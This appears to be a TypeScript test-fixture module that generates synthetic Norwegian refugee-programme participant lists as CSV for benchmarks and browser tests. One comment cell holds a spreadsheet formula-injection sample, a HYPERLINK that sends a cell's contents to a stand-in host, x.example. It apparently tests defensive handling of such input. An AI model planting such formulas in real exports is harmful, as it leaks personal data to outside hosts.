/**
 * A participant list as a caseworker's spreadsheet would export it (semicolons, dd.mm.yyyy and ISO
 * dates, Norwegian headers, a BOM): mostly good rows, every 50th with an impossible date and every
 * 97th with an unknown legal basis. Shared by the benchmarks and the browser tests.
 */
export function participantList(rows = 10_000): string {
  const lines = ["referanse;lovgrunnlag;programstart;programslutt;rett og plikt norsk;norsk slutt;alder"];
  for (let i = 1; i <= rows; i++) {
    const start = i % 3 === 0 ? "15.08.2019" : i % 3 === 1 ? "01.03.2019" : "2018-06-01";
    const basis = i % 97 === 0 ? "asyl" : "introduksjonsloven";
    const date = i % 50 === 0 ? "30.02.2019" : start;
    lines.push(`R-${i};${basis};${date};31.12.2021;ja;01.10.2021;${20 + (i % 40)}`);
  }
  return `\uFEFF${lines.join("\r\n")}\r\n`;
}

/** How many rows of `participantList(rows)` are bad. */
export const badRows = (rows = 10_000) => Array.from({ length: rows }, (_, k) => k + 1).filter((i) => i % 50 === 0 || i % 97 === 0).length;

/**
 * A municipality's own 24-person list, as issue #16 describes it: the caseworker's columns beside ours
 * (a name column and a free comment, one of them starting with "=" as a formula would), all three legal
 * bases, bokmål and nynorsk words, the columns "videregående" and "sluttmål" that older Excel writes in
 * Windows-1252, and two rows with errors (an age written in words, an end before the start). No BOM:
 * `windows1252` turns it into the bytes such an Excel writes. Fixed data, no randomness.
 */
export function caseworkerList(): string {
  const header = "Navn;referanse;lovgrunnlag;programstart;programslutt;rett og plikt norsk;norsk slutt;alder;videregående;sluttmål;barn under 18;bosatt;tillatelse gitt;Merknad";
  const rows = [
    // introduksjonsloven: the COVID packages (IP2, IP3), by programme start and Norwegian training end.
    "Testperson Ås;K-01;introduksjonsloven;15.08.2019;31.12.2021;ja;01.10.2021;31;;;;;;",
    "Testperson Bø;K-02;introduksjonsloven;01.03.2019;30.06.2021;ja;15.03.2021;40;;;;;;",
    "Testperson Hå;K-03;introduksjonslova;2019-09-01;2021-12-31;ja;2021-08-01;28;;;;;;første etter permisjon",
    "Testperson Os;K-04;introduksjonsloven;01.06.2018;31.12.2020;nei;;45;;;;;;",
    "Testperson Ål;K-05;introduksjonsloven;01.10.2019;31.12.2020;ja;01.12.2021;tretti;;;;;;",
    "Testperson Sel;K-06;introduksjonsloven;15.08.2019;31.12.2021;ja;01.10.2021;33;;;;;;=HYPERLINK(\"http://x.example/?leak=\"&A7,\"klikk\")",
    "Testperson Vik;K-07;introduksjonsloven;01.02.2019;28.02.2022;ja;15.02.2022;37;;;;;;",
    "Testperson Dal;K-08;introduksjonsloven;10.09.2019;;nei;;22;;;;;;pågår",
    "Testperson Lom;K-09;introduksjonsloven;01.12.2019;01.11.2019;ja;;30;;;;;;",
    "Testperson Fet;K-10;introduksjonsloven;01.01.2020;31.03.2022;ja;31.03.2022;29;;;;;;",
    // integreringsloven: the ordinary rules.
    "Testperson Ski;K-11;integreringsloven;01.09.2021;;;;26;nei;arbeid;ja;15.08.2021;;",
    "Testperson Gol;K-12;integreringslova;01.03.2022;;;;34;ja;utdanning;nei;01.02.2022;;",
    // collective protection (chapter 6A): duration by upper secondary, age and end goal.
    "Testperson Hol;K-13;kollektiv beskyttelse;01.09.2022;;;;22;nei;fullført videregående;nei;01.08.2022;15.06.2022;",
    "Testperson Nes;K-14;kollektivt vern;01.10.2022;;;;30;nei;arbeid;ja;15.09.2022;01.07.2022;",
    "Testperson Rygge;K-15;kollektiv beskyttelse;01.11.2022;;;;41;ja;arbeid;ja;01.10.2022;01.08.2022;",
    "Testperson Sola;K-16;kollektiv beskyttelse;15.01.2023;;;;19;nei;utdanning;nei;01.12.2022;01.09.2022;",
    "Testperson Time;K-17;kollektivt vern;01.02.2023;;;;27;nei;vidaregåande;nei;10.01.2023;01.10.2022;",
    "Testperson Hemne;K-18;kollektiv beskyttelse;01.03.2023;;;;52;nei;anna;ja;15.02.2023;01.11.2022;",
    "Testperson Stord;K-19;kollektiv beskyttelse;01.04.2023;;;;24;ja;utdanning;nei;01.03.2023;01.12.2022;",
    "Testperson Voss;K-20;kollektiv beskyttelse;01.05.2023;;;;35;nei;annet;ja;01.04.2023;15.01.2023;",
    "Testperson Bremanger;K-21;kollektivt vern;01.06.2023;;;;23;nei;arbeid;nei;01.05.2023;01.02.2023;",
    "Testperson Eid;K-22;kollektiv beskyttelse;01.08.2023;;;;44;nei;fullført videregående;ja;01.07.2023;01.03.2023;",
    "Testperson Lesja;K-23;kollektiv beskyttelse;01.09.2023;;;;21;ja;arbeid;nei;01.08.2023;01.04.2023;",
    "Testperson Bykle;K-24;kollektiv beskyttelse;01.10.2023;;;;60;nei;utdanning;ja;01.09.2023;01.05.2023;",
  ];
  return `${[header, ...rows].join("\r\n")}\r\n`;
}

/**
 * Text as "CSV (semikolondelt)" from older Excel writes it: Windows-1252, one byte per character. The
 * Norwegian letters are the same bytes in Latin-1; a character Windows-1252 puts elsewhere is refused.
 */
export function windows1252(text: string): Uint8Array {
  const bytes = new Uint8Array(text.length);
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    if (code > 0xff || (code >= 0x80 && code <= 0x9f)) throw new Error(`not a Windows-1252 letter written as in Latin-1: ${text[i]}`);
    bytes[i] = code;
  }
  return bytes;
}
